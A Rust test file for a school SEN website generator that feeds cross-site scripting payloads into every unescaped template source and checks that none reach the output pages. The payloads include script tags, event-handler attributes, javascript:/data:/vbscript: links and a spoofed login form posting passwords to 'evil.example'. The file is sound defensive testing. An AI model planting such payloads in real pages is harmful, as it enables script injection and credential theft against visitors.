//! Untrusted content cannot run script (`trusted_html: false`): every source that reaches a
//! template's `| safe` is fed hostile text, and no output page may carry it; links with other
//! schemes than http, https, mailto and tel are errors naming file and line.

mod common;
use common::{page, report_answers, Fixture, COUNCIL_SITE_YAML};
use std::path::Path;

/// Raw HTML that would run `PWNED()`, in every form ammonia must remove.
const EVIL: &str = "<script>PWNED()</script><img src=\"x.png\" alt=\"x\" onerror=\"PWNED()\"> <a href=\"javascript:PWNED()\">j</a> <svg onload=\"PWNED()\"></svg> <div id=\"main\" onclick=\"PWNED()\">spoof</div> <form action=\"https://evil.example\"><input type=\"password\" name=\"PWNED\"><button>Log in</button></form>";

fn school(name: &str, urn: &str, answer: &str) -> String {
    let report = report_answers(|k| format!("'{answer} About {k}. Ask Anyshire SENDIASS.'"));
    format!(
        "name: \"{name}\"\nurn: \"{urn}\"\nphase: primary\ntype: \"Community school\"\narea: \"North\"\nheadteacher: {{ name: \"Ms A Head\" }}\nsenco:\n  name: \"Mr B Senco\"\n  email: \"senco@school.example\"\nchair_of_governors: {{ name: \"Mr D Chair\", contact: '<script>FACT()</script> Ring 01234 567890 or mail a\"onclick=FACT()@x.example, see https://x.example/\"onmouseover=FACT()' }}\nneeds: [cognition-and-learning]\nreport:\n  reviewed: 2026-09-01\n{report}"
    )
}

const SITE: &str = COUNCIL_SITE_YAML;

fn fm(title: &str, extra: &str) -> String {
    format!("---\ntitle: \"{title}\"\ndescription: \"About {title}.\"\nreviewed: 2026-11-01\n{extra}---\n")
}

/// Hostile text in every source that a `| safe` prints: page bodies of every template (home,
/// section, page, steps, school, schools list, SEN report, pack), step text, report answers.
fn hostile_site() -> Fixture {
    let body = format!("## Welcome {{tabindex=0 autofocus onfocus=PWNED()}}\n\n## Main\n\nText {EVIL}\n\n- a list {EVIL}\n");
    let steps = format!(
        "template: steps.html\nsteps:\n  - title: Talk to the class teacher\n    what: '{EVIL} Most worries'\n    cannot: '{EVIL} Not this'\n  - title: Talk to the SENCO\n    page: senco.md\n    what: 'Ask [the SENCO](senco.md) {EVIL}'\n  - title: Complain to the governors\n"
    );
    Fixture::new(&[
        ("site.yaml", SITE),
        ("content/_index.md", &page("Home", &body)),
        ("content/guide.md", &page("A guide", &body)),
        ("content/guides/_index.md", &page("Guides", &body)),
        ("content/guides/one.md", &page("One", "Plain.\n")),
        (
            "content/record.md",
            &(fm("A meeting record", "template: record.html\n") + &body),
        ),
        (
            "content/complaints/_index.md",
            &(fm("How to complain", &steps) + &body),
        ),
        (
            "content/complaints/senco.md",
            &page("The SENCO step", &body),
        ),
        ("content/schools/_index.md", &page("Schools", &body)),
        (
            "content/schools/oak-primary.yaml",
            &school("Oak <script>FACT()</script>", "100001", EVIL),
        ),
        (
            "content/school-pages/_index.md",
            &(fm("Welcome", "") + &body + "\n{{ school.name }}\n"),
        ),
        (
            "content/school-pages/sen-information-report.md",
            &(fm("SEN information report", "template: sen-report.html\n") + &body),
        ),
        (
            "content/school-pages/raising-a-concern.md",
            &(fm("Raising a concern", "") + &body),
        ),
        (
            "content/school-pages/contact.md",
            &(fm("Contact", "") + &body),
        ),
    ])
}

fn html_files(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
    for e in std::fs::read_dir(dir).expect("output folder") {
        let p = e.expect("entry").path();
        if p.is_dir() {
            html_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "html") {
            out.push(p);
        }
    }
}

#[test]
fn no_hostile_text_reaches_any_page() {
    let s = hostile_site();
    s.build();
    let mut files = Vec::new();
    html_files(&s.out(), &mut files);
    files.sort();
    let must_see = [
        "index.html",
        "guide/index.html",
        "guides/index.html",
        "record/index.html",
        "complaints/index.html",
        "complaints/senco/index.html",
        "schools/index.html",
        "schools/a-z/o/index.html",
        "schools/oak-primary/index.html",
        "schools/oak-primary/sen-information-report/index.html",
        "schools/oak-primary/raising-a-concern/index.html",
        "schools/oak-primary/contact/index.html",
        "schools/oak-primary/pack/index.html",
    ];
    for f in must_see {
        assert!(files.contains(&s.out().join(f)), "no output/{f}");
    }
    for f in &files {
        let html = std::fs::read_to_string(f).expect("page");
        let name = f.display();
        assert!(
            !html.contains("PWNED"),
            "{name} still holds hostile code:\n{html}"
        );
        assert!(
            !html.contains("<script>FACT"),
            "{name}: a fact became markup"
        );
        for bad in [
            "javascript:",
            "evil.example",
            "<button>Log in",
            "type=\"password\"",
            "autofocus",
            "onfocus",
        ] {
            assert!(!html.contains(bad), "{name} has {bad}:\n{html}");
        }
        let lower = html.to_ascii_lowercase();
        for (at, _) in lower.match_indices(" on") {
            let rest = &lower[at + 3..];
            let name_len = rest.chars().take_while(char::is_ascii_alphabetic).count();
            assert!(
                !rest[name_len..].starts_with('='),
                "{name} has an event handler: {}",
                &html[at..(at + 40).min(html.len())]
            );
        }
        assert!(
            html.matches("id=\"main\"").count() <= 1,
            "{name}: content took the id `main`"
        );
    }
    // The chair's hostile contact text is shown as text, its number and address as links.
    let concern = s.read("schools/oak-primary/raising-a-concern/index.html");
    assert!(concern.contains("&lt;script&gt;"), "{concern}");
    assert!(
        concern.contains("<a href=\"tel:+441234567890\">01234 567890</a>"),
        "{concern}"
    );
    // The hostile steps still show their text, cleaned, on the route and every school's copy.
    for f in [
        "complaints/index.html",
        "schools/oak-primary/raising-a-concern/index.html",
    ] {
        let html = s.read(f);
        assert!(
            html.contains("Most worries") && html.contains("Not this"),
            "{f}:\n{html}"
        );
    }
    let guide = s.read("guide/index.html");
    assert!(guide.contains("<h2 id=\"welcome\">Welcome</h2>"), "{guide}");
    assert!(guide.contains("<h2 id=\"h-main\">Main</h2>"), "{guide}");
}

/// Every `| safe` in the default theme, with what feeds it. The test above feeds hostile text to
/// each of these sources; a new `| safe` fails here until it is added there and here.
const KNOWN_SAFE: &[(&str, &str)] = &[
    ("base.html", "site.parts.head"), // theme parts rendered from escaped site values
    ("base.html", "site.parts.brand"),
    ("base.html", "site.parts.listen"),
    ("base.html", "site.parts.footer"),
    ("partials/header.html", "site.parts.header_tools"),
    ("partials/header.html", "site.parts.search_box"),
    ("partials/header.html", "site.parts.display_options"),
    ("home.html", "page.content"), // page bodies (fed in hostile_site)
    ("page.html", "page.content"),
    ("section.html", "page.content"),
    ("steps.html", "page.content"),
    ("record.html", "page.content"),
    ("school.html", "page.content"),
    ("schools.html", "page.content"),
    ("sen-report.html", "page.content"),
    ("sen-report.html", "item.answer"),   // report answers
    ("pack.html", "part.content"),        // the pack's pages
    ("partials/steps.html", "step.what"), // step text
    ("partials/steps.html", "step.cannot"),
    // a fact's free text with its contacts made links (the chair of governors' `contact`)
    ("partials/step-contact.html", "step.contact.how | contacts"),
    ("service.html", "page.content"), // a service's description (fed in tests/services.rs)
    ("service.html", "a.html"),       // its Local Offer answers (fed in tests/services.rs)
    ("services.html", "page.content"),
    // the directory's cards, each rendered once from partials/service-card.html with Tera's
    // escaping (fed hostile provider text in tests/services.rs)
    ("services.html", "d.cards_html"),
    // the list of schools' cards, each rendered once from partials/school-card.html with Tera's
    // escaping (fed a hostile school name in hostile_site: /schools/ and /schools/a-z/o/)
    ("schools.html", "g.cards_html"),
];

#[test]
fn every_safe_in_the_theme_is_known() {
    let root = common::repo().join("themes/default/templates");
    let mut stack = vec![root.clone()];
    let mut found = Vec::new();
    while let Some(p) = stack.pop() {
        if p.is_dir() {
            for e in std::fs::read_dir(&p).expect("templates") {
                stack.push(e.expect("entry").path());
            }
            continue;
        }
        let text = std::fs::read_to_string(&p).expect("template");
        let rel = p
            .strip_prefix(&root)
            .expect("inside")
            .to_string_lossy()
            .replace('\\', "/");
        for (at, _) in text.match_indices("| safe") {
            let open = text[..at].rfind("{{").expect("inside {{ }}");
            found.push((rel.clone(), text[open + 2..at].trim().to_string()));
        }
    }
    found.sort();
    for (file, expr) in &found {
        assert!(
            KNOWN_SAFE.iter().any(|(f, e)| f == file && e == expr),
            "a new `{{{{ {expr} | safe }}}}` in {file}: feed it hostile text in hostile_site and add it to KNOWN_SAFE"
        );
    }
    // The parts are theme templates printing site values through Tera's escaping.
    let parts = common::repo().join("themes/default/templates/site");
    for e in std::fs::read_dir(parts).expect("site parts") {
        let text = std::fs::read_to_string(e.expect("entry").path()).expect("part");
        assert!(
            !text.contains("| safe"),
            "a site part prints something unescaped"
        );
    }
}

#[test]
fn other_schemes_are_errors_naming_file_and_line() {
    let s = hostile_site();
    s.write(
        "content/guide.md",
        &page("A guide", "Fine.\n\n[x](javascript://%0aalert(1))\n"),
    );
    s.write(
        "content/guides/one.md",
        &page("One", "![i](data:image/svg+xml,%3Csvg%3E) <vbscript:x>\n"),
    );
    s.write(
        "content/school-pages/contact.md",
        &(fm("Contact", "") + "[y](data:text/html,x)\n"),
    );
    s.write(
        "content/complaints/_index.md",
        &fm("How to complain", "template: steps.html\nsteps:\n  - title: Talk\n    what: 'See [z](javascript:alert(1))'\n"),
    );
    let (code, _, err) = s.run(&["build"]);
    assert_eq!(code, 1, "{err}");
    for (file, scheme) in [
        ("content/guide.md:8", "javascript"),
        ("content/guides/one.md:6", "data"),
        ("content/guides/one.md:6", "vbscript"),
        ("content/school-pages/contact.md:6", "data"),
        ("content/complaints/_index.md:8", "javascript"),
    ] {
        assert!(
            err.lines().any(|l| l.contains(file))
                && err.contains(&format!("`{scheme}:` links are not allowed")),
            "no error at {file} for {scheme}:\n{err}"
        );
    }
    assert!(!s.out().exists(), "a failed build writes no output");
}

/// Cleaning keeps senpack's own ids: a cleaned school page's in-place glossary definitions keep
/// the ids their links point at, while an author's copy of a theme id is dropped.
#[test]
fn cleaning_keeps_our_own_ids() {
    let s = hostile_site();
    s.write(
        "content/glossary.yaml",
        "- term: Special educational needs co-ordinator\n  abbr: SENCO\n  definition: The teacher who organises extra help.\n",
    );
    s.write(
        "content/school-pages/contact.md",
        &(fm("Contact", "") + "Email the SENCO. <p id=\"toc-title\">x</p>\n"),
    );
    s.build();
    let html = s.read("schools/oak-primary/contact/index.html");
    assert!(html.contains("aria-describedby=\"gl-def-1\""), "{html}");
    assert!(
        html.contains("class=\"term-def\" id=\"gl-def-1\""),
        "{html}"
    );
    assert!(!html.contains("<p id=\"toc-title\">"), "{html}");
}
